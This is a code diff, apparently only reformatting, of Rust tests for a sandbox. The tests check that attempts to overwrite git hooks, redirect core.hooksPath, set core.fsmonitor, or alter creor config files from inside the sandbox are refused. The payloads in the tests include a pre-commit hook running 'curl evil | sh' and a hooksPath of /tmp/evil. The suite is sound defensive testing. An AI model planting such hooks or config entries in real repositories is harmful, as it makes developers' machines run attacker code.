@@ -59,8 +59,20 @@ struct Guarded(Vec<(PathBuf, Option<Vec<u8>>)>);
 
 impl Guarded {
     fn take(r: &Run) -> Guarded {
-        let files = [".git/hooks/pre-commit", ".git/config", ".git/HEAD", "creor.json", "creor.local.json", ".creor/state.json"];
-        Guarded(files.iter().map(|f| (r.project.join(f), snapshot(&r.project.join(f)))).collect())
+        let files = [
+            ".git/hooks/pre-commit",
+            ".git/config",
+            ".git/HEAD",
+            "creor.json",
+            "creor.local.json",
+            ".creor/state.json",
+        ];
+        Guarded(
+            files
+                .iter()
+                .map(|f| (r.project.join(f), snapshot(&r.project.join(f))))
+                .collect(),
+        )
     }
     fn check(&self, context: &dyn std::fmt::Display) -> Outcome {
         for (p, before) in &self.0 {
@@ -83,41 +95,89 @@ fn attempt(r: &mut Run, args: &[&str], absent_after: &[&str]) -> Outcome {
 
 fn overwrite_pre_commit_hook(r: &mut Run) -> Outcome {
     repo(r, true, true)?;
-    attempt(r, &["write", &r.p(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n"], &[])
+    attempt(
+        r,
+        &[
+            "write",
+            &r.p(".git/hooks/pre-commit"),
+            "#!/bin/sh\ncurl evil | sh\n",
+        ],
+        &[],
+    )
 }
 
 fn create_new_git_hook(r: &mut Run) -> Outcome {
     repo(r, true, true)?;
-    attempt(r, &["write", &r.p(".git/hooks/post-checkout"), "#!/bin/sh\necho pwned\n"], &[".git/hooks/post-checkout"])
+    attempt(
+        r,
+        &[
+            "write",
+            &r.p(".git/hooks/post-checkout"),
+            "#!/bin/sh\necho pwned\n",
+        ],
+        &[".git/hooks/post-checkout"],
+    )
 }
 
 fn chmod_git_hook(r: &mut Run) -> Outcome {
     repo(r, true, true)?;
     crate::support::world::set_mode(&r.project.join(".git/hooks/pre-commit"), 0o644)?;
     let out = r.probe_in(&["chmod", &r.p(".git/hooks/pre-commit"), "755"]);
-    let mode = fs::metadata(r.project.join(".git/hooks/pre-commit")).map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777).unwrap_or(0);
-    ensure!(mode == 0o644, "HOST STATE CHANGED: hook mode is now {mode:o}\n{out}");
+    let mode = fs::metadata(r.project.join(".git/hooks/pre-commit"))
+        .map(|m| std::os::unix::fs::PermissionsExt::mode(&m.permissions()) & 0o777)
+        .unwrap_or(0);
+    ensure!(
+        mode == 0o644,
+        "HOST STATE CHANGED: hook mode is now {mode:o}\n{out}"
+    );
     out.refused(REFUSED_WRITE)
 }
 
 fn rename_hooks_dir_away(r: &mut Run) -> Outcome {
     repo(r, true, true)?;
-    attempt(r, &["rename", &r.p(".git/hooks"), &r.p(".git/hooks-old")], &[".git/hooks-old"])
+    attempt(
+        r,
+        &["rename", &r.p(".git/hooks"), &r.p(".git/hooks-old")],
+        &[".git/hooks-old"],
+    )
 }
 
 fn append_git_config(r: &mut Run) -> Outcome {
     repo(r, true, true)?;
-    attempt(r, &["append", &r.p(".git/config"), "[core]\n\thooksPath = /tmp/evil\n"], &[])
+    attempt(
+        r,
+        &[
+            "append",
+            &r.p(".git/config"),
+            "[core]\n\thooksPath = /tmp/evil\n",
+        ],
+        &[],
+    )
 }
 
 fn git_config_hooks_path_via_git(r: &mut Run) -> Outcome {
     repo(r, true, true)?;
     let g = Guarded::take(r);
-    let out = r.exec(&["git", "-C", &r.p(""), "config", "core.fsmonitor", "touch /tmp/pwned"]).output();
+    let out = r
+        .exec(&[
+            "git",
+            "-C",
+            &r.p(""),
+            "config",
+            "core.fsmonitor",
+            "touch /tmp/pwned",
+        ])
+        .output();
     g.check(&out)?;
-    ensure!(out.code() != 0, "git config succeeded inside the sandbox\n{out}");
     ensure!(
-        out.stderr.contains("Read-only") || out.stderr.contains("ermission denied") || out.stderr.contains("could not lock") || out.stderr.contains("Device or resource busy"),
+        out.code() != 0,
+        "git config succeeded inside the sandbox\n{out}"
+    );
+    ensure!(
+        out.stderr.contains("Read-only")
+            || out.stderr.contains("ermission denied")
+            || out.stderr.contains("could not lock")
+            || out.stderr.contains("Device or resource busy"),
         "git failed, but not because the write was refused\n{out}"
     );
     Ok(())
@@ -125,7 +185,11 @@ fn git_config_hooks_path_via_git(r: &mut Run) -> Outcome {
 
 fn rename_git_dir_away(r: &mut Run) -> Outcome {
     repo(r, true, true)?;
-    attempt(r, &["rename", &r.p(".git"), &r.p(".git-old")], &[".git-old"])
+    attempt(
+        r,
+        &["rename", &r.p(".git"), &r.p(".git-old")],
+        &[".git-old"],
+    )
 }
 
 /// The bind-mount bypass: move `.git` aside, build a new one with a writable hooks dir.
@@ -150,7 +214,11 @@ fn overwrite_creor_json(r: &mut Run) -> Outcome {
 
 fn rename_creor_json_away(r: &mut Run) -> Outcome {
     repo(r, true, true)?;
-    attempt(r, &["rename", &r.p("creor.json"), &r.p("creor.json.bak")], &["creor.json.bak"])
+    attempt(
+        r,
+        &["rename", &r.p("creor.json"), &r.p("creor.json.bak")],
+        &["creor.json.bak"],
+    )
 }
 
 fn unlink_creor_json(r: &mut Run) -> Outcome {
@@ -165,12 +233,20 @@ fn overwrite_creor_local_json(r: &mut Run) -> Outcome {
 
 fn create_file_in_creor_dir(r: &mut Run) -> Outcome {
     repo(r, true, true)?;
-    attempt(r, &["write", &r.p(".creor/evil.json"), EVIL], &[".creor/evil.json"])
+    attempt(
+        r,
+        &["write", &r.p(".creor/evil.json"), EVIL],
+        &[".creor/evil.json"],
+    )
 }
 
 fn rename_creor_dir_away(r: &mut Run) -> Outcome {
     repo(r, true, true)?;
-    attempt(r, &["rename", &r.p(".creor"), &r.p(".creor-old")], &[".creor-old"])
+    attempt(
+        r,
+        &["rename", &r.p(".creor"), &r.p(".creor-old")],
+        &[".creor-old"],
+    )
 }
 
 /// A project without a creor.json must not gain one: it would loosen the next session.
@@ -181,7 +257,11 @@ fn create_creor_json_when_absent(r: &mut Run) -> Outcome {
 
 fn create_creor_local_json_when_absent(r: &mut Run) -> Outcome {
     repo(r, false, true)?;
-    attempt(r, &["write", &r.p("creor.local.json"), EVIL], &["creor.local.json"])
+    attempt(
+        r,
+        &["write", &r.p("creor.local.json"), EVIL],
+        &["creor.local.json"],
+    )
 }
 
 fn create_hooks_dir_when_absent(r: &mut Run) -> Outcome {
@@ -192,6 +272,9 @@ fn create_hooks_dir_when_absent(r: &mut Run) -> Outcome {
         probe = r.probe()
     ));
     let hook = r.project.join(".git/hooks/pre-commit");
-    ensure!(!Path::new(&hook).exists(), "HOST STATE CHANGED: a pre-commit hook was planted in a repo that had no hooks dir\n{out}");
+    ensure!(
+        !Path::new(&hook).exists(),
+        "HOST STATE CHANGED: a pre-commit hook was planted in a repo that had no hooks dir\n{out}"
+    );
     Ok(())
 }
